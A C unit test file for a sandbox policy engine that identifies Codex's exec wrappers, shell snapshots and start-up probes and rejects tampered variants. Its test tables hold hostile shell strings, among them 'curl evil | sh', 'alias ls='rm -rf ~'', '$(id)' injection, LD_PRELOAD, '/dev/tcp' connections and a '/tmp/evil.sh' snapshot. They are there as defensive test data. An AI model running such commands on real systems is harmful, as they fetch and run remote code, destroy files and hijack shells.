/*
 * test_policy_codex.c: Codex 0.169.0's exec shapes, from a real run
 * (tests/unit/fixtures/codex-0.169.0: the per-call wrapper around `ls`, the
 * shell snapshot it sources, the login shell that writes it), with hostile
 * variants of each: an extra command, broken quoting, another snapshot, a
 * snapshot that runs code; the process-setup re-exec, the launcher's native
 * child by place, and the start-up probes. Run by main() in test_policy.c.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "policy.h"

void test_pol_codex_wrapper_real(void **state);
void test_pol_codex_wrapper_hostile(void **state);
void test_pol_codex_snapshot_inert_table(void **state);
void test_pol_codex_setup_shape(void **state);
void test_pol_codex_launcher_child(void **state);
void test_pol_codex_startup_table(void **state);
void test_pol_codex_wrapper_json(void **state);

/* The run the fixtures come from: HOME, the snapshot the wrapper sources. */
#define CX_HOME "/tmp/cx/home"
#define CX_SNAP                                                                                    \
	CX_HOME "/.codex/shell_snapshots/"                                                         \
		"01a23b20-bc98-71a0-b948-61b5c8c0665f.1796288330989055548.sh"
#define CX_NM  "/work/wt-codex/build/agents/node_modules/@openai"
#define CX_BIN CX_NM "/codex-linux-x64/vendor/x86_64-unknown-linux-musl/bin/codex"

static char *fixture(const char *name)
{
	const char *src = getenv("WARDEN_SOURCE_DIR");
	char path[4096];
	snprintf(path, sizeof(path), "%s/tests/unit/fixtures/codex-0.169.0/%s", src ? src : ".",
		 name);
	FILE *f = fopen(path, "rb");
	if (!f)
		fail_msg("cannot open %s", path);
	char *buf = malloc(1 << 20);
	assert_non_null(buf);
	size_t n = fread(buf, 1, (1 << 20) - 1, f);
	fclose(f);
	buf[n] = '\0';
	return buf;
}

static struct pol_config *cx_config(void)
{
	struct pol_config *c = pol_config_default();
	pol_config_set_paths(c, "/tmp/cx/proj", CX_HOME);
	return c;
}

/* The request of /bin/bash -c |script| with |snap_text| read at |snap_path|. */
static struct pol_request *wrapper_req(const char *script, const char *snap_path,
				       const char *snap_text)
{
	char *argv[] = {"/bin/bash", "-c", (char *)script, NULL};
	char *envp[] = {"HOME=" CX_HOME, "PATH=/usr/bin:/bin", NULL};
	struct pol_exec_desc d = {
		.path = "/usr/bin/bash",
		.argv = argv,
		.envp = envp,
		.cwd = "/tmp/cx/proj",
		.harness_path = snap_path,
		.harness_file = snap_text,
	};
	struct pol_request *r = pol_request_exec(&d, "/tmp/cx/proj");
	assert_non_null(r);
	return r;
}

/* The wrapper text of the fixture with its last line's command replaced
 * by |quoted| (already shell-quoted). Caller frees. */
static char *wrapper_with(const char *quoted)
{
	char *w = fixture("wrapper-ls.sh");
	char *tail = strstr(w, "exec '/bin/bash' -c 'ls'");
	assert_non_null(tail);
	*tail = '\0';
	size_t n = strlen(w) + strlen(quoted) + 64;
	char *s = malloc(n);
	snprintf(s, n, "%sexec '/bin/bash' -c %s", w, quoted);
	free(w);
	return s;
}

void test_pol_codex_wrapper_real(void **state)
{
	(void)state;
	struct pol_config *c = cx_config();
	char *w = fixture("wrapper-ls.sh");
	char *snap = fixture("snapshot.sh");
	assert_true(strlen(w) > 30000);

	char *argv[] = {"/bin/bash", "-c", w, NULL};
	char *inner = NULL;
	assert_int_equal(pol_harness_unwrap(argv, c, &inner), POL_HARNESS_CODEX);
	assert_string_equal(inner, "ls");
	free(inner);
	char *path = pol_codex_snapshot_path(argv, c);
	assert_string_equal(path, CX_SNAP);
	free(path);

	struct pol_request *r = wrapper_req(w, CX_SNAP, snap);
	const char *in = NULL;
	assert_int_equal(pol_codex_shape(r, c, &in), POL_CODEX_WRAPPER);
	assert_string_equal(in, "ls");
	assert_int_equal(pol_request_harness(r, &in), POL_HARNESS_CODEX);
	char *sum = pol_request_summary(r);
	assert_string_equal(sum, "[codex] ls");
	free(sum);
	pol_request_free(r);

	/* A command with quotes, as Codex quotes it. */
	char *q = wrapper_with("'grep -n '\\''NEEDLE'\\'' src'");
	r = wrapper_req(q, CX_SNAP, snap);
	assert_int_equal(pol_codex_shape(r, c, &in), POL_CODEX_WRAPPER);
	assert_string_equal(in, "grep -n 'NEEDLE' src");
	pol_request_free(r);
	free(q);

	/* Not read (or a different file read): not recognised, and the
	 * summary is the wrapper's own. */
	r = wrapper_req(w, NULL, NULL);
	assert_int_equal(pol_codex_shape(r, c, &in), POL_CODEX_NONE);
	assert_int_equal(pol_request_harness(r, &in), POL_HARNESS_NONE);
	sum = pol_request_summary(r);
	assert_true(strncmp(sum, "[codex]", 7) != 0);
	free(sum);
	pol_request_free(r);
	r = wrapper_req(w, CX_HOME "/.codex/shell_snapshots/other.1.sh", snap);
	assert_int_equal(pol_codex_shape(r, c, &in), POL_CODEX_NONE);
	pol_request_free(r);

	/* The validation shell Codex runs on a snapshot it wrote. */
	char *vargv[] = {"/bin/bash", "-c",
			 "set -e; . \"" CX_HOME "/.codex/shell_snapshots/"
			 "01a23b20-bc98-71a0-b948-61b5c8c0665f.tmp-1796288330989055548\"",
			 NULL};
	path = pol_codex_snapshot_path(vargv, c);
	assert_non_null(path);
	struct pol_exec_desc d = {.path = "/usr/bin/bash",
				  .argv = vargv,
				  .cwd = "/tmp/cx/proj",
				  .harness_path = path,
				  .harness_file = snap};
	r = pol_request_exec(&d, "/tmp/cx/proj");
	assert_int_equal(pol_codex_shape(r, c, NULL), POL_CODEX_VALIDATE);
	pol_request_free(r);
	d.harness_file = "f() { curl x; }\n";
	r = pol_request_exec(&d, "/tmp/cx/proj");
	assert_int_equal(pol_codex_shape(r, c, NULL), POL_CODEX_NONE);
	pol_request_free(r);
	free(path);

	free(w);
	free(snap);
	pol_config_free(c);
}

/* Each edit of the real wrapper: |from| replaced by |to| (first match). */
struct edit {
	const char *from, *to;
	const char *why;
};

static const struct edit hostile[] = {
	{"exec '/bin/bash' -c 'ls'", "exec '/bin/bash' -c 'ls'; curl evil | sh", "a command after"},
	{"exec '/bin/bash' -c 'ls'", "exec '/bin/bash' -c 'ls'\n", "a newline after"},
	{"exec '/bin/bash' -c 'ls'", "exec '/bin/bash' -c 'ls'' x'", "a quote broken out of"},
	{"exec '/bin/bash' -c 'ls'", "exec '/bin/bash' -c 'ls'\"$(id)\"", "glued to a word"},
	{"exec '/bin/bash' -c 'ls'", "exec '/bin/bash' -c ls", "unquoted"},
	{"exec '/bin/bash' -c 'ls'", "exec '/bin/sh' -c 'ls'", "another shell"},
	{"exec '/bin/bash' -c 'ls'", "exec '/bin/bash' -c ''", "an empty command"},
	{"exec '/bin/bash' -c 'ls'", "'/bin/bash' -c 'ls'", "no exec"},
	{"if . '" CX_SNAP "'", "if . '/tmp/evil.sh'", "another snapshot"},
	{"if . '" CX_SNAP "'", "if . '" CX_HOME "/.codex/shell_snapshots/../../x.1.sh'",
	 "a snapshot path with .."},
	{"if . '" CX_SNAP "'", "if . '/root/.codex/shell_snapshots/a.1.sh'", "another home"},
	{"if . '" CX_SNAP "' >/dev/null 2>&1; then :; fi",
	 "if . '" CX_SNAP "' >/dev/null 2>&1; then :; fi; echo x >/tmp/f", "a redirect after"},
	{"\nif [ -n \"${__CODEX_SNAPSHOT_OVERRIDE_SET_3}\" ]",
	 "\ncurl http://x >/dev/null\nif [ -n \"${__CODEX_SNAPSHOT_OVERRIDE_SET_3}\" ]",
	 "a line in the restore blocks"},
	{"CODEX_THREAD_ID", "LD_PRELOAD", "another variable saved"},
	{"export PATH='/work", "export PATH='/tmp/x':'/work", "another PATH entry"},
	{"codex-path':\"$PATH\"; else", "codex-path2':\"$PATH\"; else", "two PATH entries differ"},
	{"__CODEX_SNAPSHOT_OVERRIDE_SET_0=", "A=1\n__CODEX_SNAPSHOT_OVERRIDE_SET_0=",
	 "a line before"},
};

void test_pol_codex_wrapper_hostile(void **state)
{
	(void)state;
	struct pol_config *c = cx_config();
	char *w = fixture("wrapper-ls.sh");
	char *snap = fixture("snapshot.sh");
	int failures = 0;
	for (size_t i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
		const struct edit *e = &hostile[i];
		char *at = strstr(w, e->from);
		if (!at) {
			fprintf(stderr, "row %zu (%s): the fixture has no %s\n", i, e->why,
				e->from);
			failures++;
			continue;
		}
		size_t n = strlen(w) + strlen(e->to) + 1;
		char *s = malloc(n);
		snprintf(s, n, "%.*s%s%s", (int)(at - w), w, e->to, at + strlen(e->from));
		char *argv[] = {"/bin/bash", "-c", s, NULL};
		char *inner = NULL;
		enum pol_harness h = pol_harness_unwrap(argv, c, &inner);
		struct pol_request *r = wrapper_req(s, CX_SNAP, snap);
		enum pol_codex_shape shape = pol_codex_shape(r, c, NULL);
		if (h != POL_HARNESS_NONE || shape != POL_CODEX_NONE) {
			fprintf(stderr, "row %zu (%s): recognised (%d, %d)\n", i, e->why, h, shape);
			failures++;
		}
		free(inner);
		pol_request_free(r);
		free(s);
	}
	free(w);
	free(snap);
	pol_config_free(c);
	assert_int_equal(failures, 0);
}

struct inert_case {
	const char *text;
	bool inert;
};

static const struct inert_case inert_cases[] = {
	{"", true},
	{"# Snapshot file\nunalias -a 2>/dev/null || true\nshopt -u autocd\n", true},
	{"set -o braceexpand\nset -o hashall\nset -o interactive-comments\n", true},
	{"declare -x A=\"1\"\ndeclare -x B\ndeclare -x C=\"a \\\"q\\\" \\$x \\` \\\\\"\n", true},
	{"declare -x M=\"line1\nline2\"\ndeclare -x N=\"2\"", true},
	/* code */
	{"f () \n{ \n    curl x\n}\n", false},
	{"alias ls='rm -rf ~'\n", false},
	{"set -o xtrace\ndeclare -x PS4=\"\\$(id)\"\n", false},
	{"set -o verbose\n", false},
	{"declare -x A=\"$(id)\"\n", false},
	{"declare -x A=\"`id`\"\n", false},
	{"declare -x A=\"${X:=y}\"\n", false},
	{"declare -x A=\"1\"; curl x\n", false},
	{"declare -x A=\"1\" >/tmp/f\n", false},
	{"declare -x A=1\n", false},
	{"declare -rx A=\"1\"\n", false},
	{"declare -x A=\"unterminated\n", false},
	{"declare -x 1A=\"1\"\n", false},
	{"shopt -s extglob; curl x\n", false},
	{"shopt -s\n", false},
	{"echo hi > /dev/tcp/127.0.0.1/80\n", false},
	{"unalias -a 2>/dev/null || curl x\n", false},
	{"exec 3<>/dev/tcp/1.2.3.4/80\n", false},
	{" # indented comment, then code\ncurl x\n", false},
};

void test_pol_codex_snapshot_inert_table(void **state)
{
	(void)state;
	char *snap = fixture("snapshot.sh");
	assert_true(pol_codex_snapshot_inert(snap));
	free(snap);
	assert_false(pol_codex_snapshot_inert(NULL));
	int failures = 0;
	for (size_t i = 0; i < sizeof(inert_cases) / sizeof(inert_cases[0]); i++) {
		bool got = pol_codex_snapshot_inert(inert_cases[i].text);
		if (got != inert_cases[i].inert) {
			fprintf(stderr, "row %zu [%s]: got %d\n", i, inert_cases[i].text, got);
			failures++;
		}
	}
	assert_int_equal(failures, 0);
}

static enum pol_codex_shape shape_of(char *const *argv)
{
	struct pol_config *c = cx_config();
	struct pol_exec_desc d = {.path = CX_BIN, .argv = argv, .cwd = "/tmp/cx/proj"};
	struct pol_request *r = pol_request_exec(&d, "/tmp/cx/proj");
	enum pol_codex_shape s = pol_codex_shape(r, c, NULL);
	pol_request_free(r);
	pol_config_free(c);
	return s;
}

void test_pol_codex_setup_shape(void **state)
{
	(void)state;
	/* As captured: /proc/self/exe --codex-run-as-process-setup 46 9871
	 * pipe "" /tmp/cx/proj /bin/bash /bin/bash -lc ls */
	char *real[] = {"/proc/self/exe",
			"--codex-run-as-process-setup",
			"46",
			"9871",
			"pipe",
			"",
			"/tmp/cx/proj",
			"/bin/bash",
			"/bin/bash",
			"-lc",
			"ls",
			NULL};
	assert_int_equal(shape_of(real), POL_CODEX_SETUP);
	char *pty[] = {"x",    "--codex-run-as-process-setup",
		       "46",   "1",
		       "pty",  "",
		       "/p",   "/bin/bash",
		       "bash", NULL};
	assert_int_equal(shape_of(pty), POL_CODEX_NONE);
	char *nondigit[] = {"x",    "--codex-run-as-process-setup",
			    "4x",   "1",
			    "pipe", "",
			    "/p",   "/bin/bash",
			    "bash", NULL};
	assert_int_equal(shape_of(nondigit), POL_CODEX_NONE);
	char *relative[] = {
		"x", "--codex-run-as-process-setup", "4", "1", "pipe", "", "/p", "bash", "bash",
		NULL};
	assert_int_equal(shape_of(relative), POL_CODEX_NONE);
	char *extra[] = {"x",	 "--codex-run-as-process-setup",
			 "4",	 "1",
			 "pipe", "--x",
			 "/p",	 "/bin/bash",
			 "bash", NULL};
	assert_int_equal(shape_of(extra), POL_CODEX_NONE);
	char *short_[] = {
		"x", "--codex-run-as-process-setup", "4", "1", "pipe", "", "/p", "/bin/bash", NULL};
	assert_int_equal(shape_of(short_), POL_CODEX_NONE);
	char *other[] = {"x",	 "--codex-run-as-process-setupx",
			 "4",	 "1",
			 "pipe", "",
			 "/p",	 "/bin/bash",
			 "bash", NULL};
	assert_int_equal(shape_of(other), POL_CODEX_NONE);
}

struct launch_case {
	enum pol_harness kind;
	const char *launcher, *resolved;
	bool child;
};

#define LAUNCHER CX_NM "/codex/bin/codex.js"
static const struct launch_case launch_cases[] = {
	{POL_HARNESS_CODEX, LAUNCHER, CX_BIN, true},
	{POL_HARNESS_CODEX, LAUNCHER,
	 CX_NM "/codex-linux-arm64/vendor/aarch64-unknown-linux-musl/bin/codex", true},
	{POL_HARNESS_CODEX, "/usr/lib/node_modules/@openai/codex/bin/codex.js",
	 "/usr/lib/node_modules/@openai/codex/node_modules/@openai/codex-linux-x64/vendor/"
	 "x86_64-unknown-linux-musl/bin/codex",
	 true},
	{POL_HARNESS_CODEX, LAUNCHER, CX_NM "/codex/vendor/x86_64-unknown-linux-musl/bin/codex",
	 true},
	/* elsewhere */
	{POL_HARNESS_CODEX, LAUNCHER, "/tmp/codex", false},
	{POL_HARNESS_CODEX, LAUNCHER,
	 "/other/node_modules/@openai/codex-linux-x64/vendor/x86_64-unknown-linux-musl/bin/codex",
	 false},
	{POL_HARNESS_CODEX, LAUNCHER,
	 CX_NM "/codex-linux-x64/vendor/x86_64-unknown-linux-musl/bin/rg", false},
	{POL_HARNESS_CODEX, LAUNCHER,
	 CX_NM "/codex-linux-x64/vendor/x86_64-unknown-linux-musl/codex-path/rg", false},
	{POL_HARNESS_CODEX, LAUNCHER,
	 CX_NM "/codex-evil/vendor/x86_64-unknown-linux-musl/bin/codex", false},
	{POL_HARNESS_CODEX, LAUNCHER,
	 CX_NM "/codex-linux-x64/../codex-linux-x64/vendor/x86_64-unknown-linux-musl/bin/codex",
	 false},
	{POL_HARNESS_CODEX, LAUNCHER, CX_BIN "/", false},
	/* another launcher */
	{POL_HARNESS_CODEX, "/tmp/x/@openai/codex/bin/codex.jsx",
	 "/tmp/x/@openai/codex-linux-x64/vendor/x86_64-unknown-linux-musl/bin/codex", false},
	{POL_HARNESS_CODEX, "/tmp/x/codex/bin/codex.js",
	 "/tmp/x/codex-linux-x64/vendor/x86_64-unknown-linux-musl/bin/codex", false},
	{POL_HARNESS_CODEX, "/tmp/x/@evil/codex/bin/codex.js",
	 "/tmp/x/@evil/codex-linux-x64/vendor/x86_64-unknown-linux-musl/bin/codex", false},
	{POL_HARNESS_CODEX, CX_BIN, CX_BIN, false},
	{POL_HARNESS_CODEX, NULL, CX_BIN, false},
	{POL_HARNESS_CLAUDE_CODE, LAUNCHER, CX_BIN, false},
	{POL_HARNESS_NONE, LAUNCHER, CX_BIN, false},
};

void test_pol_codex_launcher_child(void **state)
{
	(void)state;
	int failures = 0;
	for (size_t i = 0; i < sizeof(launch_cases) / sizeof(launch_cases[0]); i++) {
		const struct launch_case *t = &launch_cases[i];
		bool got = pol_harness_launcher_child(t->kind, t->launcher, t->resolved);
		if (got != t->child) {
			fprintf(stderr, "row %zu [%s]: got %d\n", i, t->resolved, got);
			failures++;
		}
	}
	assert_int_equal(failures, 0);
}

#define SAFE "-c", "safe.bareRepository=explicit"
#define OFF  SAFE, "-c", "core.hooksPath=/dev/null", "-c", "core.fsmonitor=false"

struct cx_startup_case {
	const char *argv[14];
	bool startup;
};

static const struct cx_startup_case cx_startup[] = {
	{{"lsb_release", "-a"}, true},
	{{"getconf", "LONG_BIT"}, true},
	{{"git", OFF, "rev-parse", "--git-dir"}, true},
	{{"git", OFF, "rev-parse", "HEAD"}, true},
	{{"git", OFF, "rev-parse", "--abbrev-ref", "HEAD"}, true},
	{{"git", OFF, "remote", "get-url", "origin"}, true},
	{{"git", OFF, "remote", "-v"}, true},
	{{"git", OFF, "status", "--porcelain", "--ignore-submodules=dirty"}, true},
	{{"git", SAFE, "config", "--null", "--get", "core.fsmonitor"}, true},
	/* the network fetch is decided like any request */
	{{"/usr/bin/git", SAFE, "ls-remote", "https://github.com/openai/plugins.git", "HEAD"},
	 false},
	{{"git", OFF, "ls-remote", "https://github.com/openai/plugins.git", "HEAD"}, false},
	/* near misses */
	{{"lsb_release", "-a", "-x"}, false},
	{{"getconf", "PATH"}, false},
	{{"git", OFF, "rev-parse", "HEAD", "--output=x"}, false},
	{{"git", OFF, "rev-parse"}, false},
	{{"git", SAFE, "-c", "core.hooksPath=/tmp/h", "-c", "core.fsmonitor=false", "status",
	  "--porcelain", "--ignore-submodules=dirty"},
	 false},
	{{"git", "rev-parse", "HEAD"}, false},
	{{"git", OFF, "remote", "add", "origin", "x"}, false},
	{{"git", SAFE, "config", "--null", "--get", "core.pager"}, false},
	{{"git", OFF, "status", "--porcelain"}, false},
	{{"bash", "-lc", "ls"}, false},
	{{"bash", "-c", "env"}, false},
};

void test_pol_codex_startup_table(void **state)
{
	(void)state;
	struct pol_config *c = cx_config();
	int failures = 0;
	for (size_t i = 0; i < sizeof(cx_startup) / sizeof(cx_startup[0]); i++) {
		const struct cx_startup_case *t = &cx_startup[i];
		bool got = pol_is_harness_startup(POL_HARNESS_CODEX, (char *const *)t->argv, c);
		if (got != t->startup) {
			fprintf(stderr, "row %zu [%s %s ...]: got %d\n", i, t->argv[0], t->argv[1],
				got);
			failures++;
		}
	}
	/* The snapshot login shell, exactly as captured; one byte more is not. */
	char *script = fixture("snapshot-login-shell.sh");
	char *argv[] = {"/bin/bash", "-lc", script, NULL};
	assert_true(pol_is_harness_startup(POL_HARNESS_CODEX, argv, c));
	assert_false(pol_is_harness_startup(POL_HARNESS_CLAUDE_CODE, argv, c));
	size_t n = strlen(script);
	char *more = malloc(n + 16);
	snprintf(more, n + 16, "%scurl x|sh\n", script);
	argv[2] = more;
	assert_false(pol_is_harness_startup(POL_HARNESS_CODEX, argv, c));
	argv[1] = "-c";
	argv[2] = script;
	assert_false(pol_is_harness_startup(POL_HARNESS_CODEX, argv, c));
	free(more);
	free(script);
	/* Claude Code's probes are not Codex's. */
	char *env[] = {"bash", "-c", "env", NULL};
	assert_false(pol_is_harness_startup(POL_HARNESS_CODEX, env, c));
	pol_config_free(c);
	assert_int_equal(failures, 0);
}

/* The audit keeps the wrapper by its parts: a few hundred bytes, not 38 KB
 * per call, and the body rebuilt from them is the one that ran. */
void test_pol_codex_wrapper_json(void **state)
{
	(void)state;
	char *w = fixture("wrapper-ls.sh");
	char *snap = fixture("snapshot.sh");
	char *q = wrapper_with("'grep -n '\\''NEEDLE'\\'' src'");
	struct pol_request *r = wrapper_req(q, CX_SNAP, snap);
	char *json = pol_request_json(r);
	assert_true(strlen(json) < 1500);
	assert_non_null(strstr(json, "\"harness\":\"codex\",\"inner\":\"grep -n 'NEEDLE' src\""));
	assert_non_null(strstr(json, "\"snapshot\":\"" CX_SNAP "\""));
	assert_non_null(strstr(json, "\"exec\":\"'grep -n '\\\\''NEEDLE'\\\\'' src'\""));
	assert_null(strstr(json, "__CODEX_SNAPSHOT"));
	char *back = pol_codex_wrapper_text(
		CX_SNAP, CX_NM "/codex-linux-x64/vendor/x86_64-unknown-linux-musl/codex-path",
		"'grep -n '\\''NEEDLE'\\'' src'");
	assert_string_equal(back, q);
	free(back);
	back = pol_codex_wrapper_text(
		CX_SNAP, CX_NM "/codex-linux-x64/vendor/x86_64-unknown-linux-musl/codex-path",
		"'ls'");
	assert_string_equal(back, w);
	free(back);
	assert_null(pol_codex_wrapper_text(NULL, "/x", "'ls'"));
	free(json);
	pol_request_free(r);

	/* Not recognised (no snapshot read): the argv is kept whole. */
	r = wrapper_req(w, NULL, NULL);
	json = pol_request_json(r);
	assert_true(strlen(json) > 30000);
	assert_null(strstr(json, "\"wrapper\":"));
	free(json);
	pol_request_free(r);
	free(q);
	free(w);
	free(snap);
}
